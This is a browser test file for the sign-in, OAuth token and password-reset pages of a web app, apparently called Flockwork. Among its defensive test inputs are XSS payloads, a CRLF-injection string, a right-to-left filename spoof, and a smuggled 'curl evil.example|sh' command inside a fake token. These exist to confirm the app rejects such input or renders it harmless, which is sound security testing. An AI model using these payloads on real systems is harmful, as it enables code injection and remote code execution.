/** Signing in, by a password and by a token in the URL, and the pages around it. */
import { accountRoutes } from '@flockwork/contract/account'
import { authRoutes, type Profile } from '@flockwork/contract/auth'
import { expect, test, vi } from 'vitest'
import { page } from 'vitest/browser'
import { openApp, type OpenedApp, type Options } from './app.tsx'
import { setOnline } from './browser-state.ts'
import { sessionOf } from './default-answers.ts'
import { refusal, wrongFields } from './fake-server.ts'
import { overflow } from './look.ts'
import { button, composer, title } from './parts.ts'
import { person, worldOf } from './world.ts'

const PASSWORD = 'a long enough password'

const identifier = page.getByRole('textbox', { name: 'Email or username' })
const password = page.getByLabelText('Password', { exact: true })
const submit = button('Sign in')
const create = page.getByRole('button', { name: 'Create account' })
const providerLink = page.getByRole('link', { name: 'Sign in with GitHub' })
const heading = (name: string) => page.getByRole('heading', { name })
const alert = (words: string) => page.getByRole('alert').filter({ hasText: words })

const part = (value: object) =>
  btoa(JSON.stringify(value)).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')

function tokenOf({ id, username }: Profile): string {
  const iat = Math.floor(Date.now() / 1000)
  const claims = { sub: id, sid: id, username, iat, exp: iat + 3600 }
  return `${part({ alg: 'EdDSA' })}.${part(claims)}.signature`
}

/** `secret` is neither in the URL nor in the tab's or the browser's storage. */
function expectGone(app: OpenedApp, secret: string): void {
  const places = [location.href, history.state, { ...sessionStorage }, [...app.stored.values()]]
  expect(JSON.stringify(places)).not.toContain(secret)
}

async function signIn(): Promise<void> {
  await identifier.fill('ana')
  await password.fill(PASSWORD)
  await submit.click()
}

test('input survives switching to registration and back', async () => {
  await openApp()
  await identifier.fill('ana')
  await password.fill('half a pass')
  await create.click()
  await page.getByRole('textbox', { name: 'Full name' }).fill('Ana Gómez')
  await button('Sign in instead').click()
  await expect.element(identifier).toHaveValue('ana')
  await expect.element(password).toHaveValue('half a pass')
  await create.click()
  await expect.element(page.getByRole('textbox', { name: 'Full name' })).toHaveValue('Ana Gómez')
})

test('a short password, an invalid name and a taken one are shown at their fields', async () => {
  const { server, world } = await openApp()
  server.answer(authRoutes.register, ({ body }) => {
    if (body.username === 'root') return refusal(409, 'conflict', 'This username is taken')
    Object.assign(world, worldOf(person(body.username)))
    return sessionOf(world)
  })
  await create.click()
  const username = page.getByRole('textbox', { name: 'Username' })
  await username.fill('no spaces, please')
  await page.getByRole('textbox', { name: 'Email', exact: true }).fill('new@example.org')
  await password.fill('short')
  await create.click()
  await expect.element(password).toHaveFocus()
  await expect.element(page.getByText('Use at least 8 characters.')).toBeVisible()

  await password.fill(PASSWORD)
  await expect.element(page.getByText('Use at least 8 characters.')).not.toBeInTheDocument()
  await create.click()
  await expect.element(username).toHaveFocus()
  await expect.element(username).toHaveAccessibleDescription(/Use 3 to 32 of a-z/)

  await username.fill('ROOT')
  await create.click()
  await expect.element(page.getByText('This username is taken')).toBeVisible()
  await expect.element(password).toHaveValue(PASSWORD)
  await username.fill('fine')
  await create.click()
  await expect.element(composer).toBeVisible()
})

test.for([
  {
    state: 'a wrong password',
    answer: refusal(401, 'unauthorized', 'Wrong username or password'),
    words: 'Wrong username or password',
  },
  {
    state: 'too many attempts',
    answer: refusal(429, 'rate_limited', 'Too many attempts', { retry_after: 14 * 60 + 1 }),
    words: 'Too many attempts. Try again in 15 minutes.',
  },
  {
    state: 'a deactivated account',
    answer: refusal(403, 'forbidden', 'This account is deactivated'),
    words: 'This account is deactivated',
  },
])('$state is shown in the form, and its input stays', async ({ answer, words }) => {
  const { server } = await openApp()
  server.answer(authRoutes.login, () => answer.clone())
  await signIn()
  await expect.element(alert(words)).toBeVisible()
  await expect.element(identifier).toHaveValue('ana')
  await expect.element(password).toHaveValue(PASSWORD)
})

test('while the server or the network is down, input stays', async () => {
  const { server } = await openApp({ world: { accounts: [person('ana')] } })
  server.isReachable = false
  await signIn()
  await expect
    .element(page.getByText('The server does not answer. Check your connection and try again.'))
    .toBeVisible()
  await expect.element(identifier).toHaveValue('ana')

  setOnline(server, false)
  const off = button('You are offline')
  await expect.poll(() => off.elements().length).toBe(2)
  await expect.element(off.first()).toBeDisabled()
  await expect.element(off.last()).toBeDisabled()
  setOnline(server, true)
  await expect.element(providerLink).toBeVisible()
  await expect.element(identifier).toHaveValue('ana')
  await submit.click()
  await expect.element(composer).toBeVisible()
})

test('a failure at the provider is shown once, whatever its text', async () => {
  const app = await openApp({ path: `/?error=${encodeURIComponent('<img src=x onerror=alert(1)>')}` })
  await expect.element(alert('Authentication Failed')).toBeVisible()
  expect(document.images).toHaveLength(0)
  expect(location.pathname + location.search).toBe('/')
  await page.getByRole('button', { name: 'Close notification' }).click()
  await app.reload()
  await expect.element(providerLink).toBeVisible()
  await expect.element(alert('Authentication Failed')).not.toBeInTheDocument()
})

/** Nobody is signed in, and the server knows whose `token` it is. */
function knows(token: string, whose: Profile): Options {
  return {
    answers: (server) =>
      server.answer(authRoutes.me, (call) => (call.token === token ? whose : refusal(401, 'unauthorized'))),
  }
}

test('a token that this browser did not request is accepted only after a confirmation', async () => {
  const tara = person('tara')
  const token = tokenOf(tara)
  const path = `/?token=${token}&username=somebody_else&next=/agents`
  const app = await openApp({ ...knows(token, tara), path })
  await expect.element(heading('Continue as tara?')).toHaveFocus()
  expectGone(app, token)
  await button('Cancel').click()
  await expect.element(identifier).toHaveValue('somebody_else')
  expectGone(app, token)

  await app.reload(path)
  // from here on the session has only this token, no cookie
  Object.assign(app.world, worldOf(tara))
  app.server.answer(authRoutes.refresh, () => refusal(401, 'unauthorized'))
  await button('Continue').click()
  await expect.element(title('Agents')).toBeVisible()
  expect(location.pathname + location.search).toBe('/agents')
  await app.reload()
  await expect.element(title('Agents')).toBeVisible()
})

test('a token that this browser requested is accepted at once, the next one is not', async () => {
  const begun = person('begun')
  const token = tokenOf(begun)
  const app = await openApp(knows(token, begun))
  await providerLink.click()
  expect(app.left).toEqual(['/auth/github'])
  Object.assign(app.world, worldOf(begun))
  app.server.answer(authRoutes.refresh, () => refusal(401, 'unauthorized'))
  await app.reload(`/?token=${token}`)
  await expect.element(composer).toBeVisible()
  expect(location.href).not.toContain(token)

  await page.getByRole('button', { name: 'Logout' }).click()
  await expect.element(submit).toBeVisible()
  const again = person('again')
  app.server.answer(authRoutes.me, () => again)
  await app.reload(`/?token=${tokenOf(again)}`)
  await expect.element(heading('Continue as again?')).toBeVisible()
})

test.for(['nonsense', 'a.b.c', '%0D%0Aevil', '✓'])(
  'an invalid token is reported in a toast: %s',
  async (token) => {
    await openApp({ path: `/?token=${token}` })
    await expect
      .element(alert('Authentication Error'))
      .toMatchTextContent('Invalid token received from server')
    await expect.element(submit).toBeVisible()
    expect(location.pathname + location.search).toBe('/')
  },
)

test('while the server is down the token stays for another attempt', async () => {
  const away = person('away')
  const { server } = await openApp({
    path: `/?token=${tokenOf(away)}`,
    answers: (server) => {
      server.answer(authRoutes.me, () => Promise.reject(new TypeError('Failed to fetch')))
    },
  })
  await expect.element(page.getByText('The server does not answer.')).toBeVisible()
  server.answer(authRoutes.me, () => away)
  await button('Try Again').click()
  await expect.element(heading('Continue as away?')).toBeVisible()
})

test('/oauth/token shows the token with its commands, and nothing of it remains after a reload', async () => {
  const token = tokenOf(person('ana'))
  const app = await openApp({ path: `/oauth/token?token=${token}` })
  await expect.element(heading('Authentication Successful')).toBeVisible()
  await expect.element(page.getByText('Signed in as ana')).toBeVisible()
  await expect.element(page.getByText('This token expires in 1 hour.')).toBeVisible()
  expect(location.pathname + location.search).toBe('/oauth/token')
  expectGone(app, token)
  // each button is beside the text that it copies
  for (const [copy, text] of [
    [button('Copy token'), page.getByRole('textbox')],
    [button('Copy code').first(), page.getByRole('region', { name: 'In a test container' })],
  ] as const) {
    const { left } = copy.element().getBoundingClientRect()
    expect(left).toBeGreaterThanOrEqual(text.element().getBoundingClientRect().right)
  }
  await button('Copy token').click()
  await expect.poll(() => navigator.clipboard.readText()).toBe(token)

  const start = `"${token.slice(0, 20)}..."`
  const region = (name: string) => page.getByRole('region', { name })
  await expect.element(region('In a test container')).toMatchTextContent('docker run')
  await expect.element(region('In a test container')).toMatchTextContent(start)
  await expect
    .element(region('As an environment variable'))
    .toMatchTextContent(`export FLOCKWORK_TOKEN=${start}`)
  await app.reload()
  await expect.element(heading('Waiting for Token')).toBeVisible()
})

test.for([
  'access_denied',
  '<script>document.title="owned"</script><img src=x onerror="document.title=1">',
  '‮gnp.exe רשומה שגויה',
  'x'.repeat(5000),
])('/oauth/token shows the error, however hostile its text: %$', async (text) => {
  await openApp({ path: `/oauth/token?error=${encodeURIComponent(text)}&token=a.b.c` })
  await expect.element(heading('Authentication Failed')).toBeVisible()
  await expect.element(page.getByRole('region', { name: 'What went wrong' })).toHaveTextContent(text)
  await expect
    .element(page.getByText('Please try authenticating again or contact support if the issue persists.'))
    .toBeInViewport()
  expect(location.pathname + location.search).toBe('/oauth/token')
  expect(document.title).toBe('Authentication Failed · Flockwork')
  expect(overflow()).toBeLessThanOrEqual(0)
})

test("/oauth/token rejects what isn't a token", async () => {
  await openApp({ path: `/oauth/token?token=${encodeURIComponent('";curl evil.example|sh;".e30.x')}` })
  await expect.element(page.getByText('Invalid token received from server')).toBeVisible()
  await expect.element(page.getByText('curl')).not.toBeInTheDocument()
})

test('/oauth/success redirects to the feed', async () => {
  vi.useFakeTimers({ shouldAdvanceTime: true })
  const app = await openApp({ me: person('ana'), path: '/oauth/success' })
  await expect.element(heading('Authentication Successful')).toBeVisible()
  vi.advanceTimersByTime(2000)
  expect(app.left).toEqual(['/home'])
  await app.reload()
  await expect.element(composer).toBeVisible()
})

const newPassword = page.getByLabelText('New password', { exact: true })
const save = button('Set password')

test('a reset link sets a new password, and each failure leaves the form filled in', async () => {
  const app = await openApp({ path: '/reset#token=a-very-secret-token' })
  app.server.answer(accountRoutes.resetPassword, ({ body }) =>
    body.password === 'password' ? wrongFields({ password: 'This password is too common' }) : undefined,
  )
  await expect.element(newPassword).toBeVisible()
  expectGone(app, 'a-very-secret-token')
  await newPassword.fill('short')
  await save.click()
  await expect.element(newPassword).toHaveFocus()
  await expect.element(newPassword).toHaveAccessibleDescription('Use at least 8 characters.')
  await newPassword.fill('password')
  await save.click()
  await expect.element(newPassword).toHaveAccessibleDescription('This password is too common')

  await newPassword.fill('an entirely new password')
  app.server.isReachable = false
  await save.click()
  await expect.element(page.getByText('The server does not answer.')).toBeVisible()
  await expect.element(newPassword).toHaveValue('an entirely new password')
  app.server.isReachable = true
  await save.click()
  await expect.element(heading('Password changed')).toBeVisible()
  expect(app.server.calls(accountRoutes.resetPassword).at(-1)).toMatchObject({
    body: { token: 'a-very-secret-token', password: 'an entirely new password' },
  })
  await page.getByRole('link', { name: 'Sign in' }).click()
  expect(app.left).toEqual(['/'])
})

test.for([
  { keeps: false, because: 'unless the person says otherwise, they end' },
  { keeps: true, because: 'the person trusts them' },
])("a reset keeps the agents' tokens: $keeps, because $because", async ({ keeps }) => {
  const app = await openApp({ path: '/reset#token=of-ana' })
  app.server.answer(accountRoutes.resetPassword, () => undefined)
  const ends = page.getByRole('checkbox', { name: 'Also end the tokens of my agents' })
  await expect.element(ends).toBeChecked()
  if (keeps) await ends.click()
  await newPassword.fill('an entirely new password')
  await save.click()
  await expect.element(heading('Password changed')).toBeVisible()
  expect(app.server.calls(accountRoutes.resetPassword)).toMatchObject([
    { body: { keep_agent_tokens: keeps } },
  ])
})

test('a used reset link says so, and opening a second one in the same window works', async () => {
  const app = await openApp({ path: '/reset#token=used' })
  app.server.answer(accountRoutes.resetPassword, () => refusal(410, 'gone'))
  await newPassword.fill('an entirely new password')
  await save.click()
  await expect.element(heading('This link does not work')).toBeVisible()
  await expect.element(page.getByText('Ask an administrator of this server for a new one.')).toBeVisible()

  location.hash = '#token=second'
  await expect.poll(() => app.left).toEqual(['/reset#token=second'])
  await app.reload()
  await expect.element(newPassword).toBeVisible()
  expect(location.pathname + location.hash).toBe('/reset')
})

test('a signed-in user stays signed in when setting a password for another account', async () => {
  const app = await openApp({ me: person('ana'), path: '/reset#token=of-somebody-else' })
  app.server.answer(accountRoutes.resetPassword, () => undefined)
  await newPassword.fill('an entirely new password')
  await save.click()
  await expect.element(heading('Password changed')).toBeVisible()
  await app.reload('/')
  await expect.element(composer).toBeVisible()
})
